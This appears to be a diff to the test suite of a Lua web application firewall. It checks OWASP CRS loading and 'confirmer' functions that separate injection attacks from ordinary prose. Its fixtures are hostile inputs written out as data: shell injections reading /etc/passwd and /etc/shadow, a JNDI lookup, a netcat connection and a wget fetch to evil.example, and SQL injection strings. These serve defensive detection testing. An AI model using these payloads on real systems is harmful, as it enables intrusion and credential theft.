@@ -176,6 +176,19 @@ describe("the OWASP CRS from Debian's modsecurity-crs", function()
     assert.truthy(seclang.list_dir(CRS .. "/rules"), CRS .. "/rules is missing")
   end)
 
+  it("is the default rule set where it is installed; a missing path refuses the config", function()
+    local c = T.conf(waf, { hyperscan = false })
+    assert.are.equal(CRS, c.crs)
+    assert.truthy(c.sec)
+    assert.is_nil(T.conf(waf, { crs = false, hyperscan = false }).sec)
+    local ok, err = pcall(T.conf, waf, { crs = "/nonexistent/crs" })
+    assert.is_false(ok)
+    assert.matches("waf: crs: /nonexistent/crs does not exist", tostring(err), 1, true)
+    ok, err = pcall(T.conf, waf, { crs = true })
+    assert.is_false(ok)
+    assert.matches("expected a path", tostring(err), 1, true)
+  end)
+
   it("loads every request rule file; what it does not run is listed", function()
     local c = crs()
     local counts = c.sec.counts
@@ -217,5 +230,72 @@ describe("the OWASP CRS from Debian's modsecurity-crs", function()
     req = T.request({ method = "POST", uri = "/f", body = body,
       headers = headers({ ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
     assert.is_true(T.phase(waf, "request", req, crs()))
+  end)
+end)
+
+describe("confirmers (crs_confirm)", function()
+  local confirm = require "luaproxy.waf.confirm"
+
+  it("shell: command lines stay matches, prose with ; | & does not", function()
+    for _, v in ipairs({ "; cat /etc/passwd", "|id", "a;id", "x && whoami", "$(sleep 5)",
+      "%24%28sleep%205%29", "`uname -a`", "${jndi:ldap://evil.example/a}", "${@print(md5(1))}",
+      "; c'a't /etc/passwd", ";c\\at${IFS}/etc/shadow", "{cat,/etc/passwd}", "; sleep 10",
+      "| nc evil.example 4444", "1; /bin/sh -i", "; ls -la", "ping.exe -n 3 10.0.0.1",
+      "test\nwget http://evil.example/x.sh", "; cat</etc/passwd" }) do
+      assert.is_true(confirm.shell(v), v)
+    end
+    for _, v in ipairs({ "The union was a great decision; select members will leave",
+      "ls 430 parts", "Tom & Jerry; cat lovers welcome", "read more | share", "price: $(5 for 2)",
+      "1 of 2; sleep well", "echo chamber; more news", "in the shop; cat food & more",
+      "office work | id card renewal", "ls", "Thanks; see you soon" }) do
+      assert.is_false(confirm.shell(v), v)
+    end
+  end)
+
+  it("sql: SQL's structure, a quote breaking into code, or a command line", function()
+    for _, v in ipairs({ "1' OR '1'='1", "1 UNION SELECT password FROM users",
+      "'-alert(1)-'", "`id`", "1%27%20OR%20%271%27%3D%271" }) do
+      assert.is_true(confirm.sql(v, v), v)
+    end
+    for _, v in ipairs({ "The union of our two teams was a great decision; select members",
+      "Select a size from the menu", "order #88 & #91: both late", "rate it 4 or 5 stars; ",
+      "s3cr3t;--x", "Don't select the \"express\" option if you're ordering" }) do
+      assert.is_false(confirm.sql(v, v), v)
+    end
+  end)
+
+  it("filename: an inner apostrophe is no quote; the rule's other characters still count", function()
+    local rx = function(x) return x:find("['\"=]") ~= nil end
+    assert.is_false(confirm.filename("Jane O'Neil.pdf", "Jane O'Neil.pdf", rx))
+    for _, v in ipairs({ "'x.php", "x.php'", "a\"b.php", "a=b.php", "O'Neil\".php" }) do
+      assert.is_true(confirm.filename(v, v, function(x) return rx(x) end), v)
+    end
+  end)
+
+  it("runs on CRS by default: prose passes, attacks are refused; crs_confirm = {} is CRS raw", function()
+    T.reset()
+    local function post(c, text)
+      local body = "comment=" .. text:gsub("[^%w]", function(ch) return string.format("%%%02X", ch:byte()) end)
+      local req = T.request({ method = "POST", uri = "/products/1/reviews", body = body,
+        headers = headers({ ["Content-Type"] = "application/x-www-form-urlencoded",
+                            ["Content-Length"] = tostring(#body) }) })
+      return T.phase(waf, "request", req, c), req
+    end
+    local prose = "The union of our two teams was a great decision; select members will leave early."
+    local on = T.conf(waf, { crs = CRS, hyperscan = false })
+    local raw = T.conf(waf, { crs = CRS, hyperscan = false, crs_confirm = {} })
+    local blocked, req = post(on, prose)
+    assert.is_false(blocked)
+    assert.truthy(req.ctx.waf.unconfirmed[932115])
+    assert.is_true((post(raw, prose)))
+    for _, attack in ipairs({ "x; cat /etc/passwd", "$(sleep 5)", "1' OR '1'='1" }) do
+      assert.is_true((post(on, attack)), attack)
+    end
+    local q = T.request({ uri = "/search?q=ls+430+parts", headers = headers() })
+    assert.is_false(T.phase(waf, "request", q, on))
+    q = T.request({ uri = "/search?q=ls+430+parts", headers = headers() })
+    assert.is_true(T.phase(waf, "request", q, raw))
+    local ok = pcall(T.conf, waf, { crs = CRS, hyperscan = false, crs_confirm = { "nope" } })
+    assert.is_false(ok)
   end)
 end)
